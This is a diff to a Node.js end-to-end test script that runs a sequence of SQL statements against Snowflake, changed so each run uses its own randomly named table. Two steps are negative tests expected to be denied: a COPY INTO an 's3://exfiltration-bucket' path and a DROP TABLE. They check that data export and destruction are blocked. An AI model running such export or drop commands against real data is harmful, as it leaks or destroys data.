@@ -7,21 +7,27 @@
 //   node pipeline.mjs --once          run the sequence once (the Job)
 //   node pipeline.mjs --loop 10       run it every 10 s forever (the Deployment)
 //   node pipeline.mjs --print-env     print which SNOWFLAKE_* variables exist (the un-annotated pod)
+import { randomBytes } from 'node:crypto';
 import { readFileSync } from 'node:fs';
 import { setTimeout as sleep } from 'node:timers/promises';
 import snowflake from 'snowflake-sdk';
 
 const REQUIRED_ENV = ['SNOWFLAKE_ACCOUNT', 'SNOWFLAKE_HOST', 'SNOWFLAKE_PORT', 'SNOWFLAKE_PROTOCOL', 'SNOWFLAKE_AUTHENTICATOR', 'SNOWFLAKE_TOKEN_FILE'];
 
-/** The statements and what the user must see for each. */
-export const STEPS = [
-  { name: 'select_literal', sql: 'select 1 as x', expect: 'rows', check: (rows) => rows.length === 1 && Number(rows[0].X) === 1 },
-  { name: 'create_table', sql: 'create or replace table e2e_orders (id integer, amount integer)', expect: 'ok' },
-  { name: 'insert_rows', sql: 'insert into e2e_orders (id, amount) values (1, 10), (2, 20), (3, 30)', expect: 'ok' },
-  { name: 'select_rows', sql: 'select id, amount from e2e_orders order by id', expect: 'rows', check: (rows) => rows.length === 3 && Number(rows[2].AMOUNT) === 30 },
-  { name: 'export_denied', sql: "copy into 's3://exfiltration-bucket/orders/' from e2e_orders", expect: 'denied' },
-  { name: 'drop_denied', sql: 'drop table e2e_orders', expect: 'denied' },
-];
+/**
+ * The statements and what the user must see for each, on a table of the run's own: the Job and the
+ * Deployment run at the same time against the same account and must not replace each other's table.
+ */
+export function steps(table) {
+  return [
+    { name: 'select_literal', sql: 'select 1 as x', expect: 'rows', check: (rows) => rows.length === 1 && Number(rows[0].X) === 1 },
+    { name: 'create_table', sql: `create or replace table ${table} (id integer, amount integer)`, expect: 'ok' },
+    { name: 'insert_rows', sql: `insert into ${table} (id, amount) values (1, 10), (2, 20), (3, 30)`, expect: 'ok' },
+    { name: 'select_rows', sql: `select id, amount from ${table} order by id`, expect: 'rows', check: (rows) => rows.length === 3 && Number(rows[2].AMOUNT) === 30 },
+    { name: 'export_denied', sql: `copy into 's3://exfiltration-bucket/orders/' from ${table}`, expect: 'denied' },
+    { name: 'drop_denied', sql: `drop table ${table}`, expect: 'denied' },
+  ];
+}
 
 /** Driver options built from the injected environment and nothing else. */
 export function connectionOptionsFromEnv(env) {
@@ -56,7 +62,7 @@ export async function runSequence(env) {
   const conn = await connect(connectionOptionsFromEnv(env));
   const outcomes = [];
   try {
-    for (const step of STEPS) {
+    for (const step of steps(`e2e_orders_${randomBytes(4).toString('hex')}`)) {
       try {
         const rows = await execute(conn, step.sql);
         const ok = step.expect === 'ok' || (step.expect === 'rows' && step.check(rows));
